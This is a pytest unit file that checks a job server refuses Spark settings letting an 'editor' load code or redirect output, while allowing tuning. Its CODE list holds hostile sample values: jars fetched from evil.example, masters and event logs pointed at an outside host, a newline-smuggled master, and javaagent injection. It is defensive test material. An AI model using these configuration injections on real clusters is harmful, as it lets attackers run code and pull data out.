"""What turns data into code, or into a way out, needs an author: settings of Spark, masters, places of checkpoints."""

import pytest
from tests.unit.server.world import bearer, job_body

CODE = [
    {"confs": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/x.jar"}},
    {"confs": {"spark.executor.extraJavaOptions": "-Dx=y"}},
    {"confs": {"spark.driver.extraClassPath": "/tmp"}},
    {"confs": {"spark.jars": "http://evil.example/x.jar"}},
    {"confs": {"spark.jars.packages": "evil:evil:1"}},
    {"confs": {"spark.plugins": "evil.Plugin"}},
    {"confs": {"spark.extraListeners": "evil.Listener"}},
    {"confs": {"spark.sql.extensions": "evil.Extensions"}},
    {"confs": {"spark.sql.catalog.x": "evil.Catalog"}},
    {"confs": {"spark.sql.streaming.stateStore.providerClass": "evil.Store"}},
    {"confs": {"spark.submit.pyFiles": "/tmp/x.py"}},
    {"confs": {"spark.pyspark.python": "/tmp/x"}},
    {"confs": {"spark.executorEnv.PYTHONPATH": "/tmp"}},
    {"confs": {"spark.hadoop.fs.x.impl": "evil.FileSystem"}},
    {"confs": {"spark.eventLog.dir": "http://evil.example"}},
    {"confs": {"spark.ui.enabled": "true"}},
    {"confs": {"spark.authenticate": "false"}},
    {"confs": {"SPARK.JARS": "x"}},
    {"confs": {"spark.executor.memory ": "1g"}},
    {"master": "spark://evil.example:7077"},
    {"master": "local[2]\nspark://evil.example"},
    {"master": "local-cluster[1,1,1024]"},
    {"master": "k8s://https://evil.example"},
    {"checkpoint": "/somewhere/else"},
    {"manifests": "sqlite:////somewhere/metadata.db"},
]
TUNING = [
    {"confs": {"spark.driver.memory": "2g", "spark.sql.shuffle.partitions": "4"}},
    {"confs": {"spark.sql.streaming.stateStore.rocksdb.changelogCheckpointing.enabled": "true"}},
    {"master": "local[4]"},
    {"master": "local[*,3]"},
    {"retained": 3, "state_backend": "memory"},
]


@pytest.mark.parametrize("settings", CODE)
@pytest.mark.parametrize("path", ["/v1/jobs", "/v1/jobs/validate"])
def test_an_editor_may_not(admin, tokens, settings, path):
    body = {**job_body(), "settings": settings}
    refused = admin.post(path, json=body, headers=bearer(tokens["editor"]))
    assert (refused.status_code, refused.json()["code"]) == (403, "REST-011")
    assert admin.post(path, json=body, headers=bearer(tokens["author"])).status_code in (200, 201)


@pytest.mark.parametrize("settings", TUNING)
def test_an_editor_may_tune(admin, tokens, settings):
    body = {**job_body(), "settings": settings}
    assert admin.post("/v1/jobs", json=body, headers=bearer(tokens["editor"])).status_code == 201


def test_a_new_version_is_asked_the_same(admin, tokens):
    made = admin.post("/v1/jobs", json=job_body())
    changed = {**job_body(), "settings": {"confs": {"spark.jars": "x"}}}
    headers = {**bearer(tokens["editor"]), "If-Match": made.headers["etag"]}
    assert admin.put("/v1/jobs/orders", json=changed, headers=headers).status_code == 403


def test_an_operator_starts_a_run_here(admin, tokens):
    admin.post("/v1/jobs", json=job_body())
    operator = bearer(tokens["operator"])
    refused = admin.post("/v1/jobs/orders/runs", json={"master": "spark://evil.example:7077"}, headers=operator)
    assert (refused.status_code, refused.json()["code"]) == (403, "REST-011")
    assert admin.post("/v1/jobs/orders/runs", json={"master": "local[2]"}, headers=operator).status_code == 202
